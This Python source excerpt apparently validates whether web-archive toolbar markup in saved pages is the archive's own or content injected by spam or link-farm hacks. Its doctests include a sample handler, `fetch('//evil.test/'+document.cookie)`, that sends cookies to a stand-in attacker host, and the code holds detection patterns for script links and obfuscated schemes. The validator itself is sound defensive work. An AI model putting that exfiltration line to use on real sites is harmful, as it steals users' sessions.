    while (lt := region.find("<", pos)) >= 0:
        if m := _COMMENT.match(region, lt):
            pos = m.end()
            continue
        tag = _TAG.match(region, lt)
        if tag is None or tag.group(2).lower() not in _CHROME_TAGS:
            return False  # an element the chrome has not, or markup read otherwise
        pos = tag.end()
        if tag.group(1):
            continue
        name = tag.group(2).lower()
        if not _attributes_archives(name, tag.group(3), own, named, replayer, rooted):
            return False
        if name in ("a", "area") and (target := _page_target(tag.group(3), own | replayer)):
            pages.add(target)
            if len(pages) > 1:
                return False  # a block of links to the site's pages, not to this page's captures
        if name in ("script", "style"):
            close = re.compile(rf"</{name}\b", re.I).search(region, pos)
            if close is None:
                return False
            body, pos = region[pos:close.start()], close.start()
            if name == "style" and not _css_archives(body, own, rooted):
                return False
            if name == "script" and not _code_archives(body, named):
                return False
    return True


def _attributes_archives(name: str, written: str, own: frozenset[str], named: frozenset[str],
                         replayer: frozenset[str], rooted: bool) -> bool:
    """Whether a chrome element's attributes are all the chrome's: names it uses, loading
    only the archive's, handlers only focusing a field or calling the archive's code."""
    pos = 0
    for m in _ATTRIBUTE.finditer(written):
        if m.start() != pos:
            return False  # something no attribute reads as
        pos = m.end()
        attribute = m.group(1).lower()
        value = html.unescape(next((v for v in m.group(2, 3, 4) if v is not None), ""))
        if attribute in _FREE_ATTRIBUTES or attribute.startswith("aria-"):
            continue
        if attribute in ("id", "class"):
            names = _CHROME_IDS if attribute == "id" else _CHROME_CLASSES
            if not all(names.fullmatch(n) for n in value.split()):
                return False  # (an empty one, as a browser's "Save as" writes, names nothing)
            continue
        if attribute == "shadowrootmode" and name == "template" and value in ("open", "closed"):
            continue  # a saved page's toolbar, serialised from its shadow root
        if attribute == "style":
            if not _css_archives(value, own, rooted):
                return False
        elif attribute.startswith("on"):
            if not _handler_archives(value, named):
                return False
        elif attribute == "data-url" or (attribute == "href" and name in ("a", "area")):
            if not _links_archives(value, named):
                return False
        elif attribute == "action" and _SUBMIT.fullmatch(value.strip()) and (
                rooted or value.strip().startswith(("http", "//"))):
            continue
        elif attribute in _LOADED_ATTRIBUTES:
            urls = [u.split()[0] for u in value.split(",") if u.strip()] if (
                attribute == "srcset") else [value]
            if not all(_loads_archives(u, own, rooted) or _pywb_file(u, replayer) for u in urls):
                return False
        else:
            return False
    return not written[pos:].strip(" \t\n\r\f/")


def _handler_archives(code: str, named: frozenset[str]) -> bool:
    """Whether an event handler is the toolbar's (`_HANDLER`): a share button opens a share
    box's page, and the URLs it names are the archive's, the page's or the share box's.

    >>> named = frozenset({"archive.org", "a.test"})
    >>> _handler_archives("__wm.saveSnapshot('https://a.test/', '20180707155901')", named)
    True
    >>> _handler_archives("window.open('https://evil.test/x', '', 'width=600')", named)
    False
    >>> _handler_archives("__wm.h(event);fetch('//evil.test/'+document.cookie)", named)
    False
    """
    if not _HANDLER.fullmatch(code):
        return False
    if not all(host_under(m.group(1).lower(), _SHARE_HOSTS)
               for m in re.finditer(_SHARE_OPEN, code)):
        return False
    return all(host_under(m.group(1).lower().rstrip("."), (*named, *_SHARE_HOSTS))
               for m in _STRING_HOST.finditer(code))


def _archive_saved_file(url: str) -> bool:
    """Whether a relative URL is a file of the archive's chrome a browser saved beside the
    page (`./<title>_files/wombat.js.download`, `wombat(1).js`)."""
    name = saved_file_name(url)
    return name is not None and (name in _ARCHIVE_SAVED_NAMES
                                 or _ARCHIVE_SAVED_IMAGE.fullmatch(name) is not None)


def _loads_archives(url: str, own: frozenset[str], rooted: bool = True) -> bool:
    """Whether a URL the chrome loads is the archive's: its own files on its hosts (not a
    replay of another site's, `/web/<time>/…`, nor an item anyone uploads to archive.org,
    `/download/…`) or a static path of the host serving the page."""
    url = re.sub(r"[\t\n\r]", "", url.strip())  # as a browser reads it
    m = re.match(r"(?i)(?:https?:)?//([^/?#\\]+)(/[^?#]*)?", url)
    if m is None:
        local = _STATIC_PATH.fullmatch(url) is not None or _archive_saved_file(url)
        return rooted and local and ".." not in url and "//" not in url
    host = m.group(1).lower().rstrip(".")
    path = m.group(2) or "/"
    if re.search(r"//|\\|%(?:2e|2f|3a|5c)|\.\.", path, re.I) or not host_under(host, own):
        return False
    return host in ARCHIVE_TODAY_HOSTS or _ARCHIVE_FILES.match(path) is not None or (
        host in _STATIC_HOSTS and _STATIC_HOST_FILES.match(path) is not None)


def _links_archives(url: str, named: frozenset[str]) -> bool:
    """Whether a chrome link leads where the archive's toolbar links: the archive's pages,
    the page's own, a share box (a block of links to other sites is a link farm's)."""
    url = re.sub(r"[\x00-\x20]", "", url).replace("\\", "/")  # as a browser reads it
    m = re.match(r"(?i)(?:https?:)?//([^/?#]*)", url)
    if re.fullmatch(r"(?i)javascript:(?:;|void\(0\);?)?", url):
        return True  # 2011-2013's close link, whose handler hides the toolbar: it runs nothing
    if m is None and re.match(r"(?i)[a-z][a-z0-9+.-]*:", url):
        return False  # a script link runs here
    # the host after any user name (`//web.archive.org@casino.test/` is casino.test), and
    # the page an archive's link replays (`/web/2023/https://casino.test/`, scheme or not)
    # or names (`?u=https://…`): the toolbar links to its captures of this page
    hosts = [re.sub(r":\d*$", "", m.group(1).rsplit("@", 1)[-1])] if m else []
    path = url[m.end():] if m else url
    if wrapped := _WRAPPED_LINK.match(path):
        hosts.append(wrapped.group(1))
    hosts += [h.group(1) for h in _STRING_HOST.finditer(path)]
    return all(host_under(host.lower().rstrip("."), (*named, *_SHARE_HOSTS)) for host in hosts)


# the archive's own pages a toolbar links from its root (or a saved copy's folder)
# (its donate, help and account pages are archive.org's, written absolute: a site's own
# `/search?q=…` or `/help/…` are the site's pages)
_ARCHIVE_PATH = lazy_regex(r"(?:#.*|/?)|(?:/|(?:\.\.?/)*)(?:web|save|details)(?:[/?#].*)?", re.S)


def _page_target(written: str, archives: frozenset[str]) -> str | None:
    """The page a chrome link's `href` (in a tag's `written` attributes) leads to, whether
    the archive's capture of it (`/web/<time>/…`) or itself, as host and path (the scheme,
    `www.` and a list's `*` aside); None for the archive's own pages (`archives`, `/web/`,
    `/save/…`, `/details/…`, `#close`) and its share box. The toolbar links to captures of
    the page it shows, and archive.today's header names the original: links to more than
    one page of the site are a block of links (the Japanese keyword hack's), not chrome.

    >>> archives = frozenset({"archive.org"})
    >>> [_page_target(f'href="{u}"', archives) for u in ("/web/2023*/https://a.test/x*",
    ...  "https://web.archive.org/web/2014/http://www.a.test/x", "/web/", "#close", "/",
    ...  "https://web.archive.org/details/x", "/?p7x2=12034", "https://a.test/item.php?g=41")]
    ['a.test/x', 'a.test/x', None, None, None, None, '/?p7x2=12034', 'a.test/item.php?g=41']
    """
    for m in _ATTRIBUTE.finditer(written):
        if m.group(1).lower() != "href":
            continue
        url = re.sub(r"[\x00-\x20]", "", html.unescape(
            next((v for v in m.group(2, 3, 4) if v is not None), ""))).replace("\\", "/")
        at = re.match(r"(?i)(?:https?:)?//(?:[^/?#]*@)?([^/?#:]*)(?::\d*)?", url)
        host, path = (at.group(1).lower().rstrip("."), url[at.end():]) if at else ("", url)
        if wrapped := _WRAPPED_LINK.match(path):
            host, path = wrapped.group(1).lower().rstrip("."), path[wrapped.end():]
        elif (host_under(host, (*archives, *_SHARE_HOSTS)) if at else (
                re.match(r"(?i)[a-z][a-z0-9+.-]*:", url) or _ARCHIVE_PATH.fullmatch(path))):
            return None  # the archive's page, its share box's, or a link running no page
        return host.removeprefix("www.") + _capture_key(path)
    return None


# query parameters the archive's URL key drops: a session's id is no other page
# (as its canonicaliser does: a hack's `?sid=41` is another page, a session's 32 letters none)
_SESSION_PARAM = lazy_regex(r"(?i)jsessionid=.*|(?:phpsessid|sid)=[0-9a-z]{32}|"
                            r"aspsessionid[a-z]{8}=[a-z]{24}|cfid=\d+|cftoken=[\w-]+")


def _capture_key(path: str) -> str:
    """A linked page's path and query as the archive keys its captures (SURT): the toolbar
    links the captures before and after this one as each was written, so one page shows
    with a port (`:80`), another case, a session id, its parameters in another order, or
    its directory's index page (`/x/index.html` is `/x/`, as site mode's URL of a saved
    `x/index.html` is).

    >>> _capture_key(":80/Local/Story.php?b=2&PHPSESSID=9f2c4e1a7b3d5f6e8a0c2e4f6a8b0c2d&a=1")
    '/local/story.php?a=1&b=2'
    >>> _capture_key("/x/*"), _capture_key("/?sid=41")
    ('/x', '/?sid=41')
    >>> _capture_key("/x/index.html"), _capture_key("/X/Index.htm?b=2"), _capture_key("/index.html")
    ('/x', '/x?b=2', '')
    """
    path = re.sub(r"^:\d*", "", path.split("#", 1)[0])
    path, _, query = path.rstrip("*").partition("?")
    path = directory_page(path.lower())  # `/x/index.html` is `/x/`, as the site serves it
    params = sorted(p.lower() for p in query.split("&")
                    if p and not _SESSION_PARAM.fullmatch(p))
    if not params:
        return path.rstrip("*/").lower()
    return (path.rstrip("*/").lower() or "/") + "?" + "&".join(params)


def _pywb_file(url: str, replayer: frozenset[str]) -> bool:
    """Whether a URL is one of pywb's own scripts on the host serving the replay."""
    m = _PYWB_FILE.fullmatch(url.strip())
    return m is not None and m.group(1).lower() in replayer


def _css_archives(css: str, own: frozenset[str], rooted: bool = True) -> bool:
    """Whether the chrome's style loads only the archive's (no escapes hiding a url())."""
    if _CSS_BAD.search(css):
        return False
    return all(_loads_archives(m.group(1) or m.group(2) or "", own, rooted)
               for m in _CSS_URL.finditer(css))


def _code_archives(code: str, named: frozenset[str]) -> bool:
    """Whether a chrome script is only the archive's own statements (`_STATEMENTS`: its
    calls with literal arguments, Ruffle's config, its analytics' page view) or the
    2011-2016 toolbar's code (`_toolbar_code`), naming no host but the archive's and the
    page's."""
    if not _STATEMENTS.fullmatch(code):
        return _toolbar_code(code, named)
    return all(host_under(m.group(1).lower().rstrip("."), named)
               for m in _STRING_HOST.finditer(code))


# The 2011-2016 toolbar defines its code inline: the sparkline's date tracker, which the
# archive wrote the same on every page but for its literals (the page's URL and capture
# date, the graph's width). It is read as tokens, comments and blanks aside, its strings
# and numbers as S and N; the sequence's SHA-256 must be one the archive served (from its
# toolbars as saved: 2011-2013's global functions and the disclaimer call after the
# toolbar, 2013-2014's `var __wm = (function(){…})()`, 2014-2016's
# `var __wm = (function(imgWidth, …){…})(550, 27, 25, 2)`), and each
# string a plain value naming no host but the archive's and the page's: any other code,
# or the same code handed markup, a script URL or another host, is the page's
_JS_TOKEN = lazy_regex(r"""\s+|//[^\n]*|/\*.*?\*/|("(?:[^"\\\n]|\\.)*"|'(?:[^'\\\n]|\\.)*')|"""
                       r"(\d+(?:\.\d+)?)|([A-Za-z_$][\w$]*)|"
                       r"(===|!==|==|!=|<=|>=|&&|\|\||\+\+|--|/(?!\*)|[-+*%=<>!?:;,.(){}\[\]&|])",
                       re.S)  # (an unclosed `/*` is no token: one scan, not one per `/*`)
_TOOLBAR_CODE = frozenset({
    "1946a99d92a17f1ce525b950ffb61fa1",  # 2011-2013: showTrackers, trackMouseMove globals
    "cc7a806c4652455bf439c12b34111f7f",  # 2011-2013: disclaimElement(wm-ipp) after it
    "71ac3bf497cc52c4ab9f5d1b7ab528a1",  # 2013-2014: the __wm module, its sizes inside
    "4f74d92611d2a008c9d96276d9bf10c0",  # 2014-2016: the __wm module, its sizes passed
})
_PLAIN = lazy_regex(r"[\w\s#.:/%?&=*,;+~@!$-]{0,2048}")
# a literal a link may take as a scheme, read as a URL parser reads it (tabs and newlines
# dropped, blanks before it skipped): `javas<TAB>cript:…` runs (`javascript://` too), and
# `https:host` on a page of another scheme (a saved file's) leads to that host
_SCHEME = lazy_regex(r"(?i)[\x00-\x20]*(?!https?://)[a-z][a-z0-9+.-]*:")


def _toolbar_code(code: str, named: frozenset[str]) -> bool:
    r"""Whether a script is the 2011-2016 toolbar's own code (`_TOOLBAR_CODE`).

    >>> _toolbar_code('var wmDisclaimBanner = document.getElementById("wm-ipp");\n'
    ...               'if(wmDisclaimBanner != null) { disclaimElement(wmDisclaimBanner); }',
    ...               frozenset())
    True
    >>> _toolbar_code('var wmDisclaimBanner = document.getElementById("wm-ipp");\n'
    ...               'if(wmDisclaimBanner != null) { eval(wmDisclaimBanner); }', frozenset())
    False
    """
    shape: list[str] = []
    strings: list[str] = []
    pos = 0
    while pos < len(code):
        m = _JS_TOKEN.match(code, pos)
        if m is None:
            return False
        pos = m.end()
        if m.group(1):
            shape.append("S")
            strings.append(m.group(1)[1:-1].replace("\\/", "/"))
        elif m.group(2):
            shape.append("N")
        elif m.group(3) or m.group(4):
            shape.append(m.group(3) or m.group(4))
    if hashlib.sha256(" ".join(shape).encode()).hexdigest()[:32] not in _TOOLBAR_CODE:
        return False
    read = [re.sub(r"[\t\n\r]", "", v) for v in strings]  # as a URL parser reads them
    return all(_PLAIN.fullmatch(v) and not _SCHEME.match(v)
               and not re.search(r"(?i)script\s*:|data\s*:", v)
               and all(host_under(h.group(1).lower().rstrip("."), named)
                       for h in _STRING_HOST.finditer(v)) for v in read)


def _blanked(region: str) -> str:
    """The archive's chrome as blanks, its newlines and its elements' tag names kept: the
    lines and the elements after it (and their xpaths) are the saved file's."""
    out: list[str] = []
    pos = 0
    while m := _MARKUP.search(region, pos):
        out.append(_blanks(region[pos:m.start()]))
        name = m.group(1)
        if not name:  # a comment
            out.append(_blanks(m.group(0)))
            pos = m.end()
            continue
        rest = m.group(0)[len(name) + 1:]
        out += ["<", name, _blanks(rest[:-1]), ">"] if rest.endswith(">") else [
            "<", name, _blanks(rest)]
        pos = m.end()
        if name.lower() in ("script", "style"):  # raw text, to its end tag
            close = re.compile(rf"</{name}\b", re.I).search(region, pos)
            stop = close.start() if close else len(region)
            out.append(_blanks(region[pos:stop]))
            pos = stop
    out.append(_blanks(region[pos:]))
    return "".join(out)


def _blanks(text: str) -> str:
    """Chrome as blanks, its newlines kept: the lines after it keep their numbers."""
    return re.sub(r"[^\n]", " ", text)


def _url(text: str) -> str | None:
    """An original URL a replay names, when it is one a page can have."""
    return absolute_url(text) if text else None


def _stamp_time(stamp: str) -> str:
    """A replay timestamp (`20230105123456`, or a prefix of one) as ISO 8601 UTC.

    >>> _stamp_time("20230105123456"), _stamp_time("20230105")
    ('2023-01-05T12:34:56Z', '2023-01-05')
    """
    if len(stamp) == 14:
        return f"{stamp[:4]}-{stamp[4:6]}-{stamp[6:8]}T{stamp[8:10]}:{stamp[10:12]}:{stamp[12:]}Z"
    return "-".join(p for p in (stamp[:4], stamp[4:6], stamp[6:8]) if p)


def _comment_time(text: str) -> str | None:
    """The Wayback trailer's `12:34:56 Jan 05, 2023` as ISO 8601 UTC."""
    try:
        return datetime.strptime(text, "%H:%M:%S %b %d, %Y").strftime("%Y-%m-%dT%H:%M:%SZ")
    except ValueError:
        return None
